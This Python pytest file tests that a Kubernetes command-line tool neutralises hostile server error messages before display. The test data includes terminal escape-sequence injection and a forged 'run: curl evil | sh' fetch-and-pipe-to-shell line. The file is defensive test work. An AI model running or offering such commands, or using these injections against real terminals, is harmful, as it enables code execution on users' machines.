"""A server that answers with commands to the terminal: they are shown, not obeyed."""

from __future__ import annotations

import json
import threading
from base64 import b64encode
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from cli.terminals import environment, piped, terminal
from client.foreign import Authority
from sully.cli.output.text import guarded

HOSTILE = "no\x1b[2J\x1b]0;title\x07\x9b8m\u202e\rforged\n  run: curl evil | sh"
SEEN = r"no\x1b[2J"


class _Hostile(BaseHTTPRequestHandler):
    code = 403

    def _answer(self) -> None:
        status = {"kind": "Status", "status": "Failure", "reason": "Forbidden", "code": self.code}
        body = json.dumps({**status, "message": HOSTILE}).encode()
        self.send_response(self.code)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        # The command may have ended with the status line of an earlier answer.
        with suppress(BrokenPipeError, ConnectionResetError):
            self.wfile.write(body)

    do_GET = do_POST = do_PATCH = do_DELETE = _answer  # noqa: N815 - names of the library

    def log_message(self, *_: object) -> None: ...


class _Page(BaseHTTPRequestHandler):
    """Anything but an API server."""

    body = b"<html>hello</html>"

    def do_GET(self) -> None:
        body = self.body
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        with suppress(BrokenPipeError, ConnectionResetError):
            self.wfile.write(body)

    def log_message(self, *_: object) -> None: ...


class _Expiring(BaseHTTPRequestHandler):
    """Accepts the credentials for lists, and no longer for watches."""

    def do_GET(self) -> None:
        path, _, query = self.path.partition("?")
        listed = {"kind": "List", "apiVersion": "v1", "metadata": {"resourceVersion": "1"}}
        code: int = 404
        answer: dict[str, object] = {"kind": "Status", "code": 404, "reason": "NotFound"}
        answer["message"] = "the server could not find the requested resource"
        if "watch=" in query:
            code, answer = 401, {"kind": "Status", "code": 401, "reason": "Unauthorized"}
            answer["message"] = "Unauthorized"
        elif path == "/version":
            code, answer = 200, {"gitVersion": "v1.37.0+sully-0.1.0"}
        elif path.startswith(("/apis/resource.k8s.io/v1/", "/api/v1/")):
            code, answer = 200, {**listed, "items": []}
        body = json.dumps(answer).encode()
        self.send_response(code)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        with suppress(BrokenPipeError, ConnectionResetError):
            self.wfile.write(body)

    def log_message(self, *_: object) -> None: ...


def ended_certificate() -> dict[str, str]:
    """Return a user of a kubeconfig whose client certificate has expired."""
    certificate, key = Authority().issue("late", ends=datetime(2020, 1, 2, tzinfo=UTC))
    return {
        "client-certificate-data": b64encode(certificate).decode(),
        "client-key-data": b64encode(key).decode(),
    }


@contextmanager
def _served(handler: type[BaseHTTPRequestHandler], path: Path, **user: str) -> Iterator[str]:
    """Run a server, and write a kubeconfig for it; yield its address."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    url = f"http://127.0.0.1:{server.server_address[1]}"
    path.write_text(
        json.dumps(
            {
                "clusters": [{"name": "a", "cluster": {"server": url}}],
                "contexts": [{"name": "a", "context": {"cluster": "a", "user": "a"}}],
                "users": [{"name": "a", "user": user}],
                "current-context": "a",
            }
        )
    )
    yield url
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture(scope="module", params=[403, 500, 422])
def hostile(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Path]:
    """Return a kubeconfig for a server that refuses everything with such a message."""
    handler = type("Handler", (_Hostile,), {"code": request.param})
    path = tmp_path_factory.mktemp("hostile") / "kubeconfig"
    with _served(handler, path):
        yield path


PAGES = {
    "a page": b"<html>hello</html>",
    "an object that nests deeply": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "a list that nests deeply": b'{"metadata":{},"items":' + b"[" * 200_000 + b"]" * 200_000 + b"}",
    "what is not UTF-8": b'{"gitVersion":"\xff","metadata":{"resourceVersion":"\xff"},"items":[]}',
    "null": b"null",
    "a number that no float holds": b"1e400",
    "items that are no objects": b'{"metadata":{"resourceVersion":"1"},"items":[null,1]}',
    "nothing": b"",
}


@pytest.mark.parametrize("page", PAGES.values(), ids=PAGES)
@pytest.mark.parametrize("arguments", [("status",), ("drain", "node", "n", "--yes")])
def test_what_is_not_an_api_server(arguments: tuple[str, ...], page: bytes, tmp_path: Path) -> None:
    path = tmp_path / "kubeconfig"
    with _served(type("Page", (_Page,), {"body": page}), path):
        ran = piped(*arguments, env=environment(path))

    assert ran.returncode == 1
    assert ran.stderr.endswith(
        "\n  check that this is a Kubernetes API server, and the right kubeconfig for it\n"
    )


USERS = {
    "a token": ({"token": "old"}, "renew them, or select another context with --context"),
    "a certificate": (
        ended_certificate(),
        "the client certificate in the kubeconfig expired at 2020-01-02T00:00:00Z; renew it",
    ),
}


@pytest.mark.parametrize(("user", "advice"), USERS.values(), ids=USERS)
@pytest.mark.parametrize("command", ["devices", "evictions", "status"])
def test_a_watch_ends_when_the_credentials_are_rejected(
    command: str, user: dict[str, str], advice: str, tmp_path: Path
) -> None:
    path = tmp_path / "kubeconfig"
    with _served(_Expiring, path, **user) as server:
        ran = piped(command, "--watch", env=environment(path))

    rejected = f'{server} rejected the credentials of context "a" in {path}'
    assert (ran.returncode, ran.stderr) == (1, f"error: Unauthorized: {rejected}\n  {advice}\n")


COMMANDS = {
    "devices": ("devices",),
    "history": ("history",),
    "explain": ("explain", "pod", "x"),
    "taint": ("taint", "device", "a/b/c", "example.com/x:NoExecute", "--yes"),
    "capabilities": ("capabilities",),
}


@pytest.mark.parametrize("arguments", COMMANDS.values(), ids=COMMANDS.keys())
def test_a_refusal(hostile: Path, arguments: tuple[str, ...]) -> None:
    ran = piped(*arguments, env=environment(hostile))

    assert ran.returncode != 0
    shown = ran.stdout + ran.stderr
    assert all(line.isprintable() for line in shown.split("\n")), ascii(shown)
    assert "\n  run: curl" not in shown


def test_a_refusal_in_a_terminal(hostile: Path) -> None:
    with terminal("devices", env=environment(hostile)) as screen:
        screen.wait_for(SEEN)
        screen.end()

    assert all(line.isprintable() for line in screen.shown.split("\n")), ascii(screen.shown)


STREAMS = {
    "plain": ("a line\n", "a line\n"),
    "empty": ("", ""),
    "a table": ("a\tb\nc\td\n", "a\tb\nc\td\n"),
    "our colours": ("\x1b[31mred\x1b[0m", "\x1b[31mred\x1b[0m"),
    "our progress": ("\r\x1b[K10 of 20", "\r\x1b[K10 of 20"),
    "our bar": ("\r10 of 20", "\r10 of 20"),
    "a clear screen": ("\x1b[2J", "\\x1b[2J"),
    "hidden text": ("\x1b[8mhidden", "\\x1b[8mhidden"),
    "a title": ("\x1b]0;title\x07", "\\x1b]0;title\\x07"),
    "a sequence of one character": ("\x9b2J", "\\x9b2J"),
    "text from right to left": ("\u202egpj", "\\u202egpj"),
    "back to the beginning": ("refused\rallowed", "refused allowed"),
}


@pytest.mark.parametrize(("text", "want"), STREAMS.values(), ids=STREAMS.keys())
def test_guarded(text: str, want: str) -> None:
    assert guarded(text) == want
